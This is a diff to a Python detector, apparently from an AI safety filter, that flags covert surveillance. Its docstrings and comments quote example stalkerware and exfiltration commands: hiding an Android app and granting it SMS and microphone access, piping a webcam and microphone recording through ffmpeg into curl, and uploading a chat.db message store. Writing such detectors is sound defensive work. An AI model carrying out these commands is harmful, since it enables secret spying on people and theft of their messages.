@@ -25,10 +25,12 @@ What it catches
     f=@/tmp/m.db https://host/`). Such a database, or the messages read through the providers,
     mailed from the owner's own account and the sent copies then deleted from Sent (JXA's
     `Mail.OutgoingMessage`, then `mailboxes.byName('Sent Messages')` ... `Mail.delete(m)`).
-    An app on a phone hidden from its owner (`pm hide PKG`, its launcher entry disabled: `pm
-    disable-user --user 0 PKG/.Launcher`) and granted the owner's messages, calls, contacts,
+    An app on a phone hidden from its owner while it keeps running (`pm hide PKG`, `cmd
+    package hide PKG`, only its launcher entry disabled: `pm disable-user --user 0
+    PKG/.LauncherAlias`) and granted the owner's messages, calls, contacts,
     location, microphone or camera (`appops set PKG READ_SMS allow`, `pm grant PKG
-    android.permission.RECORD_AUDIO`), in either order: stalkerware set up by hand.
+    android.permission.RECORD_AUDIO`), in either order, on one line or across a script's
+    lines: stalkerware set up by hand.
 
 Why it is a redline (RL-SURVEILLANCE)
     Recording people without their knowledge is surveillance.
@@ -43,7 +45,9 @@ Allowed instead
     manager or a clipboard sync between one's own machines (kept in view, sent to one's own
     server rather than a chat webhook or a mailbox), an SMS backup the user starts, uploading
     to their own account, an auto-reply texting each sender back (its icon kept), one's own
-    app granted its permissions for a test (nothing hidden), another app hidden (a fleet
+    app granted its permissions for a test and then disabled whole, or one of its services
+    disabled (nothing hidden), its launcher icon swapped for another of its own (`pm enable
+    PKG/.IconHoliday`), another app hidden (a fleet
     phone's bloatware) beside a grant to the fleet's agent, a kiosk app
     switching which activity is its launcher, a live stream to a platform's ingest host by
     name or to one's own network's server, a clip piped to one's own recorder with its
@@ -71,6 +75,10 @@ def covert_capture(found: Capabilities) -> Detection | None:
     clipboard = _clipboard_shipped(found)
     if clipboard is not None:
         return clipboard
+    if Cap.HIDDEN_APP_GRANTED in found:
+        # An app the phone's owner can no longer see, given their messages, location or
+        # microphone: stalkerware set up by hand (a part, in a response).
+        return one_piece(found, Cap.HIDDEN_APP_GRANTED, 0.85)
     phone = _phone_records_shipped(found)
     if phone is not None:
         return phone
@@ -78,7 +86,7 @@ def covert_capture(found: Capabilities) -> Detection | None:
     if not sources:
         return None
     source = sources[0]
-    if found.kind == "action" and _piped_to_open_upload(found):
+    if found.kind == "action" and _sent_on_its_line(found, Cap.SCREEN_CAPTURE, piped=True):
         # `ffmpeg -f v4l2 -i /dev/video0 -f alsa -i default -t 60 -f matroska - | curl -T -
         # https://host/u/$(hostname)`: a recording that never lands where the user could see it,
         # streamed into an upload anyone may send to.
@@ -103,27 +111,17 @@ _READS_STDIN = re.compile(r"(?:\s-[a-zA-Z]*T|--upload-file)\s+-(?=\s|$)|@-(?=['\
 """An upload whose body is its standard input (`curl -T -`, `--data-binary @-`)."""
 
 
-def _piped_to_open_upload(found: Capabilities) -> bool:
-    """Whether a screen, camera or microphone capture is followed on its line by an upload that
-    reads its standard input and names no credential (`UNSIGNED_UPLOAD`, `sealed_drops.py`):
-    the recording piped straight out."""
+def _sent_on_its_line(found: Capabilities, source: Cap, *, piped: bool) -> bool:
+    """Whether what `source` reads on a command line is followed on that line by an upload that
+    names no credential (`UNSIGNED_UPLOAD`, `sealed_drops.py`): a recording piped straight out
+    (`piped`: the upload's body is its standard input, `curl -T -`), or a message store read
+    and sent, piped or as the file it was extracted to (`sqlite3 .../chat.db ... | curl -F
+    'f=@-' URL`; `... --out /tmp/m.db && curl -F f=@/tmp/m.db URL`)."""
     return any(
-        capture.start < upload.start
-        and found.same_line(capture.start, upload.start)
-        and _READS_STDIN.search(upload.text) is not None
-        for capture in found.hits.get(Cap.SCREEN_CAPTURE, ())
-        for upload in found.hits.get(Cap.UNSIGNED_UPLOAD, ())
-    )
-
-
-def _store_sent_to_open_upload(found: Capabilities) -> bool:
-    """Whether a message store read on a command line is followed on that line by an upload
-    that names no credential, of its standard input or of a file (`sqlite3 .../chat.db ... |
-    curl -F 'f=@-' URL`; `... --path Library/SMS/sms.db --out /tmp/m.db && curl -F f=@/tmp/m.db
-    URL`): the messages taken out and sent where anyone may send, in one go."""
-    return any(
-        store.start < upload.start and found.same_line(store.start, upload.start)
-        for store in found.hits.get(Cap.PHONE_RECORDS, ())
+        read.start < upload.start
+        and found.same_line(read.start, upload.start)
+        and (not piped or _READS_STDIN.search(upload.text) is not None)
+        for read in found.hits.get(source, ())
         for upload in found.hits.get(Cap.UNSIGNED_UPLOAD, ())
     )
 
@@ -144,16 +142,12 @@ def _phone_records_shipped(found: Capabilities) -> Detection | None:
     its own launcher icon: spyware (a bank's one-time codes forwarded as they arrive, an address
     book taken). Two of them read and posted, nothing hidden, is part of it: a backup app reads
     them for its user, with the user's say."""
-    if Cap.HIDDEN_APP_GRANTED in found:
-        # An app the phone's owner can no longer see, given their messages, location or
-        # microphone: stalkerware set up by hand (a part, in a response).
-        return one_piece(found, Cap.HIDDEN_APP_GRANTED, 0.85)
     if Cap.PHONE_RECORDS not in found:
         return None
     channel = [c for c in (*_CHANNELS, Cap.TEXT_SEND) if c in found]
     if not channel:
         return None
-    if found.kind == "action" and _store_sent_to_open_upload(found):
+    if found.kind == "action" and _sent_on_its_line(found, Cap.PHONE_RECORDS, piped=False):
         # `sqlite3 ~/Library/Messages/chat.db "select ... from message" | curl -F 'f=@-' URL`,
         # or extracted to a file that the same line uploads: someone's messages sent to an
         # upload anyone may send to.
